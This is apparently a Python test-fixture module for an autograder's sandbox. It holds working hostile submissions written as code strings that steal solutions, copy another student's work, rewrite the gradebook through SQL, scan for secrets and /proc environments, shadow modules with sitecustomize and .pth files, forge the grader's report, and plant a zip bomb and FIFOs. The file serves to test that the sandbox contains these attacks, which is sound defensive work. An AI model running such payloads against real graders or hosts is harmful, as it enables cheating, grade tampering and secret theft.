"""Reaching outside the submission: the gradebook, the solutions, other students, secrets, the
grader's own files, and files planted to shadow modules.

The sandbox mounts none of the course, so the readers find nothing and score 0 on the function
that depended on it; the writers change nothing (the catalogue test checks the gradebook, the
other students' grades and that no ``nnopt-pwned`` file appeared anywhere). Some fixtures
attack the files through which the sandbox reports back to the grader (``.nnopt-report.json``,
the executed notebook, the verifier's ``out/`` directory): a FIFO there used to hang the grader
for ever (a symlink to ``/dev/zero`` would have exhausted its memory: that case is tested on
``read_untrusted`` directly, so that a regression fails a test instead of the machine), a forged
``last_cell`` made it build a set of 10**12 integers, a zip bomb inflated 1 GB per MB in it, a
work directory swapped for a symlink made it fail with ``grader-error``. A notebook that is a
symlink to another student's notebook used to get that student's grade.
"""

from . import FULL, WRONG_SGD, ZERO, Fixture, Symlink, but, insert_code_after, on_this_host, slim, solution_cell

#: The marker every writer below tries to create; the catalogue test looks for it afterwards.
SENTINEL = "nnopt-pwned"

# Where a course, its gradebook and the submissions usually live (and where they live in these tests).
_PLACES = on_this_host('''
import glob as _glob
import os as _os
_ROOTS = ["$REPO", "$REPO_PARENT", "/root", "/home", "/srv", "/opt", "/tmp", "/var/tmp", "/mnt", "/course",
          "/usr/local/share/nbgrader", "..", "../..", "../../..", _os.path.expanduser("~")]
_ROOTS += _glob.glob("/tmp/pytest-of-*/pytest-*/*") + _glob.glob("/home/*") + _glob.glob("/proc/*/cwd")
''')

# Steal the instructor's solution (source notebook, references) or the gradebook; else be wrong.
_STEAL_SOLUTION = _PLACES + '''
import json as _json
_stolen = None
for _root in _ROOTS:
    for _pattern in ["solutions/03_momentum/*.ipynb", "source/03_momentum/*.ipynb", "*/solutions/03_momentum/*.ipynb",
                     "course/solutions/03_momentum/*.ipynb", "autograder/references/momentum.py", "gradebook.db"]:
        for _path in _glob.glob(_os.path.join(_root, _pattern)):
            try:
                if _path.endswith(".ipynb"):
                    for _cell in _json.load(open(_path))["cells"]:
                        _src = "".join(_cell["source"]) if isinstance(_cell["source"], list) else _cell["source"]
                        if "def sgd_momentum" in _src and "BEGIN SOLUTION" in _src:
                            _ns = {"np": np}
                            exec(_src, _ns)
                            _stolen = _ns["sgd_momentum"]
                else:
                    print("found", _path)
            except Exception:
                pass


def sgd_momentum(w, dw, config=None):
    if _stolen is not None:
        return _stolen(w, dw, config)
    if config is None:
        config = {}
    config.setdefault("learning_rate", 1e-2)
    config.setdefault("momentum", 0.9)
    config.setdefault("velocity", np.zeros_like(w))
    return w.copy(), config
'''

# Copy another student's nesterov_momentum from their submission; else be wrong.
_COPY_OTHER_STUDENT = _PLACES + '''
import json as _json
_copied = None
for _root in _ROOTS:
    for _pattern in ["*/03_momentum/03_momentum.ipynb", "*/*/03_momentum/03_momentum.ipynb",
                     "submitted/*/03_momentum/*.ipynb", "autograded/*/03_momentum/*.ipynb",
                     "exchange/*/inbound/*/*.ipynb"]:
        for _path in _glob.glob(_os.path.join(_root, _pattern)):
            if _path.startswith("/submission") or _os.path.abspath(_path).startswith("/submission"):
                continue  # my own notebook
            try:
                for _cell in _json.load(open(_path))["cells"]:
                    _src = "".join(_cell["source"]) if isinstance(_cell["source"], list) else _cell["source"]
                    if "def nesterov_momentum" in _src and "NotImplementedError" not in _src:
                        _ns = {"np": np}
                        exec(_src, _ns)
                        _copied = _ns["nesterov_momentum"]
            except Exception:
                pass


def nesterov_momentum(w, dw, config=None):
    if _copied is not None:
        return _copied(w, dw, config)
    if config is None:
        config = {}
    config.setdefault("learning_rate", 1e-2)
    config.setdefault("momentum", 0.9)
    config.setdefault("velocity", np.zeros_like(w))
    return w.copy(), config
'''

# Write everywhere: the gradebook (SQL), other students' folders, the course, the grader's lib dir.
_WRITE_EVERYWHERE = on_this_host(_PLACES + f'''
import sqlite3 as _sqlite3
_SENTINEL = {SENTINEL!r}
_written = []
for _root in _ROOTS + ["/", "/opt/nnopt", "/opt/nnopt/autograder", "$REPO/.venv", "$REPO/.venv/lib"]:
    for _target in [_root] + _glob.glob(_os.path.join(_root, "*")) + _glob.glob(_os.path.join(_root, "*/03_momentum")):
        if _os.path.realpath(_target).startswith(("/submission", "/tmp", "/dev/shm")):
            continue  # the scratch dir and the private /tmp are mine anyway
        try:
            with open(_os.path.join(_target, _SENTINEL + ".txt"), "w") as _f:
                _f.write("x")
            _written.append(_target)
        except OSError:
            pass
# (only gradebooks of these tests: were the sandbox ever broken, a real course's grades must not be hit)
for _root in [r for r in _ROOTS if "pytest-of-" in r or r.startswith("..")]:
    for _db in _glob.glob(_os.path.join(_root, "gradebook.db")) + _glob.glob(_os.path.join(_root, "*/gradebook.db")):
        try:
            _con = _sqlite3.connect(_db)
            _con.execute("UPDATE grade SET manual_score = 1000, extra_credit = 1000")
            _con.execute("UPDATE assignment SET name = '{SENTINEL}'")
            _con.commit()
            _written.append(_db)
        except Exception:
            pass
for _path in ["/opt/nnopt/autograder/spec.py", "/opt/nnopt/autograder/_kernel_data/03_momentum.npz",
              "$REPO/.venv/pyvenv.cfg"]:
    try:
        with open(_path, "ab") as _f:
            _f.write(b"\n# {SENTINEL}\n")
        _written.append(_path)
    except OSError:
        pass
print("written:", _written)
''')

# momentum_optimal_params is right only if the sandbox shows nothing of the host: no secrets in the
# environment (here or in any process), not root, no course files, no network.
_CANARY = on_this_host('''
def _leaks():
    import os, socket
    found = []
    for key, value in os.environ.items():
        if key.upper() == "CI" or "pytest" in value or any(s in key.upper() for s in (
                "SECRET", "TOKEN", "PASSWORD", "AWS_", "GITHUB", "SSH_", "API_KEY", "PYTEST", "XDIST", "NNOPT_COURSE",
                "NNOPT_TEST", "SEED")):
            found.append(f"env {key}")
    if os.getuid() == 0 or os.geteuid() == 0:
        found.append("root")
    for path in ("$REPO/autograder/references", "$REPO/solutions", "$REPO/gradebook.db",
                 "$REPO/autograder/assignments/momentum.py", "/root/.ssh", "/etc/shadow", "/home", "/var/lib"):
        if os.path.exists(path):
            found.append(path)
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            env = open(f"/proc/{pid}/environ", "rb").read()
        except OSError:
            continue
        if b"PYTEST" in env or b"pytest" in env or b"NNOPT_COURSE_ROOT" in env:
            found.append(f"environ of pid {pid}")
    for host in [("1.1.1.1", 53), ("192.0.2.1", 80)]:
        try:
            socket.create_connection(host, timeout=1).close()
            found.append(f"network {host}")
        except OSError:
            pass
    return found


_LEAKS = _leaks()
print("leaks:", _LEAKS)
''')
_CANARY_GATE = "    if _LEAKS:\n        return 0.0, 0.0, 0.0\n    sqrt_min"

# Plant fake modules beside the notebook at run time, put the cwd first on sys.path and purge the
# real ones from sys.modules, so that the test cells import the fakes.
_RUNTIME_SHADOWING = '''
import importlib as _importlib
import os as _os
import sys as _sys
_os.makedirs("autograder/assignments", exist_ok=True)
_os.makedirs("nnopt_helpers", exist_ok=True)
open("autograder/__init__.py", "w").write("")
open("autograder/assignments/__init__.py", "w").write(
    "class _P:\\n    def check(self, name, fn, seed=None):\\n        print(name + ': hidden tests passed')\\n"
    "def get(assignment_id):\\n    return _P()\\n")
open("nnopt_helpers/__init__.py", "w").write("")
open("nnopt_helpers/checks.py", "w").write("def run_check(*a, **k):\\n    print('ok')\\n")
open("sitecustomize.py", "w").write("import builtins\\nbuiltins.NNOPT_PWNED = True\\n")
_sys.path.insert(0, _os.getcwd())
for _name in [m for m in _sys.modules if m == "autograder" or m.startswith(("autograder.", "nnopt_helpers"))]:
    del _sys.modules[_name]
_importlib.invalidate_caches()
from nnopt_helpers.checks import run_check
'''

_FAKE_ASSIGNMENTS = (b"class _P:\n    def check(self, name, fn, seed=None):\n"
                     b"        print(name + ': hidden tests passed')\n"
                     b"def get(assignment_id):\n    return _P()\n")
_SHADOW_FILES = {
    "numpy.py": b"raise SystemExit('the planted numpy.py was imported')\n",
    "sitecustomize.py": b"import builtins\nbuiltins.NNOPT_PWNED = True\n",
    "usercustomize.py": b"import builtins\nbuiltins.NNOPT_PWNED = True\n",
    "nnopt-evil.pth": b"import builtins; builtins.NNOPT_PWNED = True\n",
    "autograder/__init__.py": b"",
    "autograder/assignments/__init__.py": _FAKE_ASSIGNMENTS,
    "autograder/spec.py": b"raise SystemExit('planted spec')\n",
    "nnopt_helpers/__init__.py": b"",
    "nnopt_helpers/checks.py": b"def run_check(*a, **k):\n    print('ok')\n",
}

# The kernel's report back to the grader, forged, then the notebook runner killed so that it
# cannot overwrite it: "not finished, last cell 10**12".
_FORGE_REPORT = '''
import json, os, signal
with open(".nnopt-report.json", "w") as f:
    json.dump({"finished": False, "last_cell": 10**12, "timeout_cell": None, "died_cell": None,
               "truncated_cells": [], "error": None, "executed_cells": 10**12, "seconds": -1}, f)
os.kill(os.getppid(), signal.SIGKILL)
'''

# The report replaced by a FIFO (an open() that never returns) and the executed notebook by a
# symlink to a host file, then the runner killed.
_FIFO_AND_SYMLINK = on_this_host('''
import os, signal
for name in (".nnopt-report.json", ".nnopt-executed.ipynb"):
    try:
        os.remove(name)
    except OSError:
        pass
os.mkfifo(".nnopt-report.json")
os.symlink("$REPO/solutions/03_momentum/03_momentum.ipynb", ".nnopt-executed.ipynb")
os.kill(os.getppid(), signal.SIGKILL)
''')

# In the verifier, the last graded function rewrites the results the first two already wrote: a
# zip bomb (128 MB of zeros in 128 kB: more than the 64 MB a result may hold), a FIFO, and a symlink
# to a host file.
_FORGE_VERIFIER_RESULTS = '''
def _forge_results():
    import glob, io, json, os, zipfile
    for out in glob.glob("/submission/verify*/out"):
        try:
            with zipfile.ZipFile(os.path.join(out, "ex-0.npz.new"), "w", zipfile.ZIP_DEFLATED) as z:
                manifest = io.BytesIO()
                empty = json.dumps({"dict": {"results": {"list": []}}}).encode()
                np.save(manifest, np.frombuffer(empty, dtype=np.uint8))
                z.writestr("__manifest__.npy", manifest.getvalue())
                header = io.BytesIO()
                np.lib.format.write_array_header_1_0(header, {"descr": "|u1", "fortran_order": False,
                                                              "shape": (128 << 20,)})
                with z.open("a0.npy", "w", force_zip64=True) as f:
                    f.write(header.getvalue())
                    for _ in range(32):
                        f.write(bytes(4 << 20))
            os.replace(os.path.join(out, "ex-0.npz.new"), os.path.join(out, "ex-0.npz"))
            os.remove(os.path.join(out, "ex-1.npz"))
            os.mkfifo(os.path.join(out, "ex-1.npz"))
            os.remove(os.path.join(out, "cells.npz"))
            os.symlink("/etc/passwd", os.path.join(out, "cells.npz"))
        except OSError:
            pass


_forged = []
'''
_FORGE_VERIFIER_CALL = "    if not _forged:\n        _forged.append(1)\n        _forge_results()\n    sqrt_min"

# In the verifier, sgd_momentum swaps its work directory for a symlink (to the moved directory, so
# that the grader can still read the progress through it) and hangs; the grader's retry used to
# call shutil.rmtree on that symlink and fail with grader-error.
_SWAP_VERIFIER_DIR = '''
import glob as _glob
import os as _os


def sgd_momentum(w, dw, config=None):
    for d in _glob.glob("/submission/verify*"):
        if _os.path.isdir(d) and not _os.path.islink(d) and not d.endswith("-moved"):
            _os.rename(d, d + "-moved")
            _os.symlink(_os.path.basename(d) + "-moved", d)
            while True:
                pass
    if config is None:
        config = {}
    config.setdefault("learning_rate", 1e-2)
    config.setdefault("momentum", 0.9)
    config.setdefault("velocity", np.zeros_like(w))
    v = config["momentum"] * config["velocity"] - config["learning_rate"] * dw
    config["velocity"] = v
    return w + v, config
'''

#: The honest student the attacks below aim at (copying from, writing into); graded in the same run.
VICTIM = "control-correct"

FIXTURES = [
    Fixture("steal-solution", slim(solution_cell("sgd_momentum", source=_STEAL_SOLUTION)),
            status="graded", scores=but(sgd_momentum=0),
            description="looks for the course's solutions/, references and gradebook; right only if it finds them"),
    Fixture("copy-other-student", slim(solution_cell("nesterov_momentum", source=_COPY_OTHER_STUDENT)),
            status="graded", scores=but(nesterov_momentum=0),
            description=f"looks for other students' notebooks ({VICTIM}'s is correct); right only if it copies one"),
    Fixture("write-everywhere", slim(insert_code_after("test_sgd_momentum", _WRITE_EVERYWHERE)),
            status="graded", scores=FULL,
            description="tries to write the gradebook (SQL), other students' folders, the course, the lib dir"),
    Fixture("secrets-canary", slim(solution_cell("momentum_optimal_params", prepend=_CANARY,
                                                 replace=("    sqrt_min", _CANARY_GATE))),
            status="graded", scores=FULL,
            description="right only if no secret, host file, root or network is visible from the sandbox"),
    Fixture("shadow-files", slim(WRONG_SGD, extra_files=_SHADOW_FILES),
            status="graded", scores=but(sgd_momentum=0),
            description="numpy.py, sitecustomize.py, a .pth, fake autograder/ and nnopt_helpers/ beside the notebook"),
    Fixture("shadow-at-runtime", slim(WRONG_SGD, solution_cell("sgd_momentum", prepend=_RUNTIME_SHADOWING)),
            status="tamper-suspected", scores=but(sgd_momentum=0),
            description="writes fake autograder/ and nnopt_helpers/ at run time, puts them first on sys.path"),
    Fixture("symlink-to-other-student",
            lambda cn: {"03_momentum.ipynb": Symlink(f"../../{VICTIM}/03_momentum/03_momentum.ipynb")},
            status="no-notebook", scores=ZERO,
            description=f"the notebook is a symlink to {VICTIM}'s notebook", note="not a regular file: not read"),
    Fixture("forged-report", slim(insert_code_after("test_momentum_optimal_params", _FORGE_REPORT)),
            status="kernel-died", scores=FULL,
            description="forges the kernel's report (last_cell = 10**12) and kills the notebook runner"),
    Fixture("fifo-and-symlink-report", slim(insert_code_after("test_momentum_optimal_params", _FIFO_AND_SYMLINK)),
            status="kernel-died", scores=FULL,
            description="replaces the report by a FIFO and the executed notebook by a symlink to a host file"),
    Fixture("forged-verifier-results",
            slim(solution_cell("momentum_optimal_params", prepend=_FORGE_VERIFIER_RESULTS,
                               replace=("    sqrt_min", _FORGE_VERIFIER_CALL))),
            status="tamper-suspected", scores=but(sgd_momentum=0, nesterov_momentum=0),
            description="in the verifier, overwrites the other results with a zip bomb, a FIFO and a symlink",
            note="the results could not be sent back"),
    Fixture("swapped-verifier-dir", slim(solution_cell("sgd_momentum", source=_SWAP_VERIFIER_DIR)),
            status="tamper-suspected", scores=ZERO,
            description="in the verifier, replaces its work directory by a symlink and hangs"),
]
